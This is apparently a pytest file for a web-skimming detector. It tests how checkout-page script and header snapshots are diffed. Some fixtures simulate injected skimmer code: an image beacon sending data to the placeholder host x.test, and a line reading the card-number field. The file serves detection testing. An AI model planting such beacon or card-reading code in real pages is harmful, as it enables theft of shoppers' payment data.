"""Baseline diffs: each change kind, and the things that must stay quiet."""

from __future__ import annotations

import hashlib
from dataclasses import replace

from skimscan.inventory.diff import ChangeKind, diff_snapshots, normalize_header, stale_forms
from skimscan.inventory.normalize import NORMALIZER_VERSION, normalize_code, script_key
from skimscan.inventory.store import Content, Destination, FindingState, ScriptState, Snapshot
from skimscan.models import Severity

PAGE = "https://shop.test/checkout"


def script(url: str | None, code: str, kind: str = "external",
           frame: str = PAGE) -> tuple[ScriptState, Content]:
    norm = normalize_code(code)
    sha = hashlib.sha256(code.encode()).hexdigest()
    state = ScriptState(script_key(url, kind, frame, norm.ast_hash), url, kind, sha,
                        norm.ast_hash, frame)
    return state, Content(sha, norm.ast_hash, norm.parsed, len(code), norm.code,
                          {"sha384": "x", "sha256": "y"})


def snap(*items: tuple[ScriptState, Content], hosts: tuple[str, ...] = ("shop.test",),
         headers: dict[str, str] | None = None,
         findings: tuple[FindingState, ...] = ()) -> tuple[Snapshot, dict[str, Content]]:
    dests = tuple(Destination(f"https://{h}", h, "first-party" if h == "shop.test" else "unknown",
                              "script") for h in hosts)
    return (Snapshot(PAGE, tuple(s for s, _ in items), dests,
                     headers if headers is not None else {"content-security-policy":
                                                          "script-src 'self'"}, findings),
            {c.sha256: c for _, c in items})


APP = "function total(a){var s=0;for(var i=0;i<a.length;i++){s+=a[i]}return s}\n"


def diff(base: tuple[Snapshot, dict[str, Content]],
         cur: tuple[Snapshot, dict[str, Content]]) -> list[tuple[str, str]]:
    changes = diff_snapshots(base[0], cur[0], {**base[1], **cur[1]})
    return [(c.kind.value, c.subject) for c in changes]


def test_nothing_changed() -> None:
    base = snap(script("https://shop.test/app.js?v=1", APP))
    assert diff(base, base) == []


def test_cache_busting_and_reminification_are_quiet() -> None:
    base = snap(script("https://shop.test/app.js?v=1", APP),
                script("https://shop.test/lib.3f2a9c1b.js", "x = 1;"))
    cur = snap(script("https://shop.test/app.js?v=2&_=1764000000",
                      "function total(n){for(var t=0,r=0;r<n.length;r++)t+=n[r];return t}"),
               script("https://shop.test/lib.a1b2c3d4e5.js", "x=1"))
    assert diff(base, cur) == []


def test_changed_script_has_a_readable_diff() -> None:
    base = snap(script("https://shop.test/app.js", APP))
    cur = snap(script("https://shop.test/app.js", APP + "new Image().src='//x.test/?'+s;"))
    [change] = diff_snapshots(base[0], cur[0], {**base[1], **cur[1]})
    assert change.kind is ChangeKind.CHANGED_SCRIPT
    assert change.subject == "https://shop.test/app.js"
    assert '+(new Image()).src = "//x.test/?" + s;' in change.detail.splitlines()


def test_new_removed_and_moved_scripts() -> None:
    base = snap(script("https://shop.test/app.js", APP),
                script("https://shop.test/old.js", "legacy();"))
    cur = snap(script("https://static.shop.test/js/app.js", APP),
               script("https://cdn.other.test/w.js", "widget();"),
               hosts=("shop.test", "cdn.other.test"))
    assert diff(base, cur) == [
        ("new-script", "https://cdn.other.test/w.js"),
        ("moved-script", "https://static.shop.test/js/app.js"),
        ("removed-script", "https://shop.test/old.js"),
        ("new-host", "cdn.other.test"),
    ]


def test_an_edited_inline_script_is_one_change() -> None:
    inline = "window.cfg = {a: 1, b: 2};\nstart(window.cfg);\n"
    base = snap(script(PAGE, inline, kind="inline"))
    cur = snap(script(PAGE, inline + "fetch('/x');\n", kind="inline"))
    [change] = diff_snapshots(base[0], cur[0], {**base[1], **cur[1]})
    assert change.kind is ChangeKind.CHANGED_SCRIPT and '+fetch("/x");' in change.detail
    other = snap(script(PAGE, "completely.different(code, 42);", kind="inline"))
    assert sorted(c.kind.value for c in diff_snapshots(base[0], other[0],
                                                      {**base[1], **other[1]})) == \
        ["new-script", "removed-script"]


def test_headers() -> None:
    base = snap(headers={"content-security-policy": "script-src 'self' 'nonce-abc'; "
                                                    "frame-src 'none'",
                         "x-frame-options": "DENY", "referrer-policy": "no-referrer"})
    # Another nonce, other order and spacing: the same policy.
    same = snap(headers={"content-security-policy": "frame-src  'none';script-src 'nonce-xyz' "
                                                    "'self'",
                         "x-frame-options": "DENY", "referrer-policy": "no-referrer"})
    assert diff(base, same) == []
    cur = snap(headers={"content-security-policy": "script-src 'self' 'nonce-q' https:; "
                                                   "frame-src 'none'",
                        "strict-transport-security": "max-age=1",
                        "referrer-policy": "unsafe-url"})
    changes = diff_snapshots(base[0], cur[0], {})
    assert [(c.kind.value, c.subject) for c in changes] == [
        ("new-header", "strict-transport-security"),
        ("changed-header", "content-security-policy"),
        ("changed-header", "referrer-policy"),
        ("removed-header", "x-frame-options"),
    ]
    assert changes[1].detail == "+ script-src: https:"
    assert normalize_header("x-frame-options", " DENY ") == "DENY"


def test_new_findings_respect_threshold_and_suppression() -> None:
    def f(fp: str, severity: str, suppressed: str | None = None) -> FindingState:
        return FindingState(fp, f"rule-{fp}", severity, "high", "m", None, suppressed)

    base = snap(findings=(f("old", "high"),))
    cur = snap(findings=(f("old", "high"), f("new", "medium"), f("info", "info"),
                         f("quiet", "critical", "accepted by policy")))
    changes = diff_snapshots(base[0], cur[0], {})
    assert [(c.kind.value, c.subject) for c in changes] == [("new-finding", "rule-new")]
    assert diff_snapshots(base[0], cur[0], {}, min_severity=Severity.HIGH) == []


def test_fingerprints_are_stable_and_distinct() -> None:
    base = snap(script("https://shop.test/app.js", APP))
    cur1 = snap(script("https://shop.test/app.js", APP + "a();"))
    cur2 = snap(script("https://shop.test/app.js?v=9", APP + "a();"))
    cur3 = snap(script("https://shop.test/app.js", APP + "b();"))
    [c1] = diff_snapshots(base[0], cur1[0], {**base[1], **cur1[1]})
    [c2] = diff_snapshots(base[0], cur2[0], {**base[1], **cur2[1]})
    [c3] = diff_snapshots(base[0], cur3[0], {**base[1], **cur3[1]})
    assert c1.fingerprint == c2.fingerprint != c3.fingerprint
    assert replace(c1, detail="other").fingerprint == c1.fingerprint


CONFIGURED = "var cfg = window.checkoutConfig || {};\nfunction pay(f) { send(cfg.url, f); }\n"


def old_form(state: ScriptState, content: Content) -> tuple[ScriptState, Content]:
    """A script as a baseline recorded before top-level names were kept has it: normalised in
    scheme 2 (every declared name positional)."""
    norm = normalize_code(content.normalized, scheme=2)
    return (replace(state, ast_hash=norm.ast_hash),
            replace(content, ast_hash=norm.ast_hash, normalized=norm.code, normalizer=2))


def current_form(item: tuple[ScriptState, Content]) -> tuple[ScriptState, Content]:
    return item[0], replace(item[1], normalizer=NORMALIZER_VERSION)


def test_a_baseline_of_the_previous_normaliser_is_not_a_change() -> None:
    """Re-minified code is quiet after the upgrade, with the original text of the old version
    (normalised again, names kept) or without it (both compared in the old scheme); a skimmer
    appended since is exactly its lines either way."""
    url = "https://shop.test/app.js"
    base_state, base_content = old_form(*script(url, CONFIGURED))
    base = snap((base_state, base_content))
    minified = "var cfg=window.checkoutConfig||{};function pay(n){send(cfg.url,n)}"
    skimmed = CONFIGURED + 'var k = document.getElementById("cc");\n'
    originals = {base_content.sha256: CONFIGURED}
    for text in (None, originals):
        quiet = snap(current_form(script(url, minified)))
        assert diff_snapshots(base[0], quiet[0], {**base[1], **quiet[1]}, originals=text) == []
        cur = snap(current_form(script(url, skimmed)))
        [change] = diff_snapshots(base[0], cur[0], {**base[1], **cur[1]}, originals=text)
        assert change.kind is ChangeKind.CHANGED_SCRIPT
        rows = change.detail.splitlines()[2:]
        assert [r for r in rows if r[:1] in "+-"] == [
            '+var k = document.getElementById("cc");' if text else
            '+var v1_2 = document.getElementById("cc");']
    stale = {base_content.sha256}
    assert stale_forms({**base[1], **cur[1]}, (*base[0].scripts, *cur[0].scripts)) == stale
    assert stale_forms(cur[1], cur[0].scripts) == set()
